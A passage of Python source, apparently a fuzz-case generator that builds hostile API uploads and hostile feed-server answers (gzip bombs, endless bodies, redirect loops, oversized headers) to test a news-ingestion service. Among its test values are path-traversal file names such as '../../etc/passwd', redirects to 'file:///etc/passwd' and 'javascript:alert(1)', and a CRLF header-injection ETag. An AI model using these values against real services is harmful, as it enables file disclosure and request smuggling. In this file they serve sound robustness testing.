                       "empty": 3, "wrong_content_type": 4, "no_token": 3, "wrong_token": 3, "charset": 3, "bom": 3,
                       "multipart_file": 12, "multipart_broken": 4, "huge_number": 2, "many_articles": 2, "quote_run": 1})
    body = json.dumps(records[0])
    content_type = "application/json"
    token: str | None = TOKEN
    upload = ""
    expect = ""
    if kind == "valid_object":
        pass
    elif kind == "valid_list":
        body = json.dumps(records)
    elif kind == "valid_wrapped":
        body = json.dumps({"articles": records})
    elif kind == "random_bytes":
        data = rng.randbytes(_size(rng, 1, 100_000))
        return Case("api", kind, f"api-{number}", data, content_type, expect="reject")
    elif kind == "truncated":
        body = json.dumps(records)[: rng.randrange(1, len(json.dumps(records)))]
        expect = "reject"
    elif kind == "deep_nesting":
        depth = rng.choice([rng.randint(700, 1100), _size(rng, 1000, 2_000_000)])
        body = rng.choice([
            '{"text": "Deep metadata.", "meta": ' + "[" * depth + "]" * depth + "}",
            "[" * depth + json.dumps(records[0]) + "]" * depth,
            '{"articles": ' + "[" * depth + "]" * depth + "}",
        ])
    elif kind == "oversize_body":
        body = json.dumps({"text": "x " * (MAX_BODY_BYTES // 2 + rng.randint(10, 100_000))})
        expect = "reject"
    elif kind == "huge_text":
        body = json.dumps({"text": (records[0]["text"] + " ") * (_size(rng, 1_100_000, 9_000_000) // (len(records[0]["text"]) + 1))})
    elif kind == "bad_escapes":
        escape = rng.choice(["\\ud800", "\\udfff", "\\u0000", "\\u001b", "\\uffff", "\\ud800\\u0000"])
        key = rng.choice(["text", "title", "source", "url"])
        body = json.dumps({**records[0], key: f"{records[0].get(key) or 'x'} MARK tail"}).replace("MARK", escape)
    elif kind == "wrong_types":
        body = rng.choice(['{"text": 5}', '{"articles": 5}', '{"articles": [1, 2]}', "[1, {}]", '"text"', "null",
                           "true", '{"text": ["a"]}', '{"articles": []}', '{"text": "ok", "date": [2022]}'])
    elif kind == "empty":
        body = rng.choice(["", " ", "[]", "{}", '{"articles": []}'])
        expect = "reject"
    elif kind == "wrong_content_type":
        content_type = rng.choice(["text/plain", "", "application/xml", "application/x-www-form-urlencoded",
                                   "multipart/form-data", "application/json-seq", "image/png"])
        expect = "reject"
    elif kind == "no_token":
        token = None
        expect = "reject"
    elif kind == "wrong_token":
        token = rng.choice(["", "x", TOKEN + "x", TOKEN[:-1], "\u00e9" * 10, " " + TOKEN + "\t"])
        expect = "reject" if token.strip() != TOKEN else ""
    elif kind == "charset":
        encoding = rng.choice(["utf-16", "utf-32", "utf-16-le", "latin-1", "cp1252"])
        data = json.dumps({**records[0], "text": _accented(rng, records[0]["text"])}, ensure_ascii=False).encode(encoding, "replace")
        return Case("api", kind, f"api-{number}", data, f"application/json; charset={encoding}")
    elif kind == "bom":
        return Case("api", kind, f"api-{number}", rng.choice(BOMS) + body.encode(), content_type)
    elif kind == "huge_number":
        body = '{"text": "Numbers.", "n": ' + "9" * _size(rng, 4000, 100_000) + "}"
    elif kind == "quote_run":
        body = json.dumps({"text": records[0]["text"] + " " + "\u201c" * _size(rng, 2000, 190_000)})
    elif kind == "many_articles":
        body = json.dumps([records[0], {"text": ""}, {"title": "no text"}] * _size(rng, 50, 5000))
    elif kind == "multipart_file":  # a hostile file of another family, uploaded
        family = rng.choice(list(FILE_FAMILIES))
        inner = FILE_FAMILIES[family](rng, number)
        upload = rng.choice([inner.name, inner.name, "../../etc/passwd", "x" * 5000 + ".txt", "noext", "a.exe",
                             "\u202eevil.txt", ""])
        return Case("api", f"multipart_{family}_{inner.kind}", f"api-{number}", inner.data, "multipart/form-data",
                    upload_name=upload)
    else:  # multipart_broken: a hand-written multipart body
        boundary = "XyZ"
        data = rng.choice([
            b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nno filename, so a string\r\n--XyZ--\r\n",
            b"--XyZ\r\nContent-Disposition: form-data; name=\"other\"; filename=\"a.txt\"\r\n\r\nx\r\n--XyZ--\r\n",
            b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nunterminated",
            b"--XyZ" * 10_000,
            b"--XyZ\r\n" + b"X-Header: " + b"h" * 100_000 + b"\r\n\r\nx\r\n--XyZ--\r\n",
            rng.randbytes(5000),
        ])
        return Case("api", kind, f"api-{number}", data, f"multipart/form-data; boundary={boundary}", expect="reject")
    return Case("api", kind, f"api-{number}", body.encode("utf-8", "surrogatepass"), content_type, token, expect=expect)


# --- the local feed server's answers --------------------------------------------------------


def _head(status: str = "200 OK", content_type: str = "application/rss+xml", extra: str = "",
          length: bool = True) -> str:
    head = f"HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nConnection: close\r\n"
    if length:
        head += "Content-Length: {length}\r\n"
    return head + extra + "\r\n"


def gzip_bytes(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=6, mtime=0)


def _url_case(rng: random.Random, number: int) -> Case:
    kind = _pick(rng, {"feed": 14, "gzip_feed": 4, "deflate_feed": 2, "gzip_bomb": 6, "gzip_broken": 3,
                       "unknown_encoding": 2, "endless": 4, "endless_chunked": 3, "trickle": 2, "silent": 1,
                       "redirect_loop": 3, "redirect_chain": 3, "redirect_scheme": 4, "redirect_broken": 3,
                       "not_modified": 3, "status": 5, "length_lies": 4, "declared_huge": 2, "bad_headers": 4,
                       "not_http": 2, "reset": 2, "html_page": 3, "validators_hostile": 3})
    feed_kind, feed, entries = _hostile_feed(rng, number)
    expect = ""
    if kind == "feed":
        served = Served(_head(content_type=rng.choice(["application/rss+xml", "text/xml; charset=utf-8",
                                                       "text/html; charset=iso-8859-1", "application/octet-stream"])), feed,
                        rng.choice(["plain", "chunked"]))
        kind = f"feed_{feed_kind}"
    elif kind in ("gzip_feed", "deflate_feed"):
        document = feed_document([excerpt(rng) for _ in range(2)])
        encoded = gzip_bytes(document.encode()) if kind == "gzip_feed" else zlib.compress(document.encode())
        coding = "gzip" if kind == "gzip_feed" else "deflate"
        served = Served(_head(extra=f"Content-Encoding: {coding}\r\n"), encoded, rng.choice(["plain", "chunked"]))
        expect = "accept"
    elif kind == "gzip_bomb":  # a small answer that decompresses to far more than max_bytes
        filler = rng.choice([b" ", b"\x00", b"<item>", b"<item><description>Kyiv was shelled.</description></item>"])
        served = Served(_head(extra="Content-Encoding: gzip\r\n", length=False), filler, "gzip_bomb",
                        bomb_mb=rng.choice([64, 256, 1024, 4096]))
        expect = "reject"
    elif kind == "gzip_broken":
        good = gzip_bytes(feed_document([excerpt(rng)]).encode())
        body = rng.choice([good[: len(good) // 2], b"\x1f\x8b" + rng.randbytes(500), good + b"trailing garbage",
                           good[:10], _flip(rng, good)])
        served = Served(_head(extra="Content-Encoding: gzip\r\n"), body)
    elif kind == "unknown_encoding":
        coding = rng.choice(["br", "compress", "zstd", "gzip, gzip", "identity, gzip", "x-bogus"])
        served = Served(_head(extra=f"Content-Encoding: {coding}\r\n"), rng.randbytes(200))
    elif kind == "endless":  # no Content-Length, the body never ends
        served = Served(_head(length=False), b"<rss><channel>" + b"<item><title>t</title></item>" * 100, "endless")
        expect = "reject"
    elif kind == "endless_chunked":
        served = Served(_head(length=False, extra="Transfer-Encoding: chunked\r\n"),
                        b"<item><description>More news.</description></item>" * 50, "endless_chunked")
        expect = "reject"
    elif kind == "trickle":
        served = Served(_head(), feed, "trickle")
        expect = "reject"
    elif kind == "silent":
        served = Served("", b"", "silent")
        expect = "reject"
    elif kind == "redirect_loop":
        target = rng.choice(["{base}/case/url/{number}/loop", "{base}/case/url/{number}/loop?again",
                             "/case/url/{number}/loop"]).replace("{number}", str(number))
        served = Served(_head(rng.choice(["301 Moved", "302 Found", "307 Temporary Redirect", "308 Permanent Redirect"]),
                              extra=f"Location: {target}\r\n"), b"")
        expect = "reject"
    elif kind == "redirect_chain":  # /chain/N redirects to /chain/N-1 ... the server counts down
        served = Served(_head("302 Found", extra="Location: {base}/case/url/" + str(number) + "/chain/{next}\r\n"),
                        feed, "chain", hops=rng.randint(1, 25))
    elif kind == "redirect_scheme":
        target = rng.choice(["file:///etc/passwd", "file://{canary}", "ftp://127.0.0.1/feed.xml", "gopher://127.0.0.1:70/",
                             "javascript:alert(1)", "data:text/plain,hello", "jar:file:///x!/y", "FILE:///etc/passwd"])
        served = Served(_head("302 Found", extra=f"Location: {target}\r\n"), b"")
        expect = "reject"
    elif kind == "redirect_broken":
        target = rng.choice(["http://[::1", "http://", "//", "http://127.0.0.1:1/closed", "\u00e9\u00e9",
                             "http://a b/", "x" * 70_000, "http://127.0.0.1:99999/", " "])
        served = Served(_head("302 Found", extra=f"Location: {target}\r\n"), b"")
        expect = "reject"
    elif kind == "not_modified":  # 304 to a request that sent no validators
        served = Served(_head("304 Not Modified", length=False), b"")
        expect = "reject"
    elif kind == "status":
        status = rng.choice(["500 Internal Server Error", "404 Not Found", "204 No Content", "418 I'm a teapot",
                             "999 Whatever", "200", "100 Continue", "301 Moved", "503 Busy", "429 Slow Down"])
        served = Served(_head(status), rng.choice([feed, b"", b"error page"]))
        if not status.startswith(("200", "999")):
            expect = "reject"
    elif kind == "length_lies":
        lie = rng.choice(["short", "long", "negative", "garbage", "two"])
        value = {"short": str(max(0, len(feed) // 2)), "long": str(len(feed) * 2 + 10), "negative": "-5",
                 "garbage": "lots", "two": f"{len(feed)}, {len(feed) + 1}"}[lie]
        served = Served(_head(length=False, extra=f"Content-Length: {value}\r\n"), feed)
    elif kind == "declared_huge":
        served = Served(_head(length=False, extra=f"Content-Length: {MAX_BYTES * rng.choice([2, 1000, 10**9])}\r\n"),
                        feed)
        expect = "reject"
    elif kind == "bad_headers":
        extra = rng.choice([
            "".join(f"X-H{i}: v\r\n" for i in range(rng.randint(101, 3000))),
            "X-Long: " + "v" * rng.randint(70_000, 300_000) + "\r\n",
            "Bad Header Line Without Colon\r\n",
            "Content-Type: " + "x/y;" * 5000 + "\r\n",
        ])
        served = Served(_head(extra=extra), feed)
    elif kind == "not_http":
        served = Served(rng.choice(["SSH-2.0-OpenSSH_8.9\r\n", "\x00\x01\x02garbage\r\n\r\n", "HTTP/9.9 200 OK\r\n\r\n",
                                    "HTTP/1.1 OK\r\n\r\n", "ICY 200 OK\r\n\r\n", "HTTP/1.1 200 OK\r\n"]), b"", "raw")
        expect = "reject"
    elif kind == "reset":
        served = Served(_head(), feed, "reset")
        expect = "reject"
    elif kind == "html_page":
        row = excerpt(rng)
        served = Served(_head(content_type="text/html"), _page(row, _paragraphs(row["text"])).encode())
    else:  # validators_hostile: ETag and Last-Modified a later conditional request must not choke on
        etag = rng.choice(['"\u00e9t\u00e9"', '"a\r\nX-Injected: 1"', '"' + "e" * 60_000 + '"', "W/", '"\x00"', ""])
        modified = rng.choice(["yesterday", "Mon, 99 Foo 2022 99:99:99 GMT", "\u00e9" * 20, "0"])
        served = Served(_head(extra=f"ETag: {etag}\r\nLast-Modified: {modified}\r\n".encode("utf-8", "replace")
                              .decode("latin-1")), feed)
    suffix = ".html" if kind == "html_page" else rng.choice([".xml", ".xml", ".rss", ""])
    return Case("url", kind, f"url-{number}{suffix}", served=served, expect=expect,
                expect_items=entries if kind.startswith("feed_") else 0)


# --- the cases ------------------------------------------------------------------------------

BUILDERS = {**FILE_FAMILIES, "api": _api_case, "url": _url_case}


def case(seed: int, family: str, number: int) -> Case:
    """Case ``number`` of ``family`` for ``seed``: built from its own random stream, so any one
    case can be rebuilt alone (by the server that answers it, or by a test)."""
    rng = random.Random(f"{seed}:{family}:{number}")
    return BUILDERS[family](rng, number)
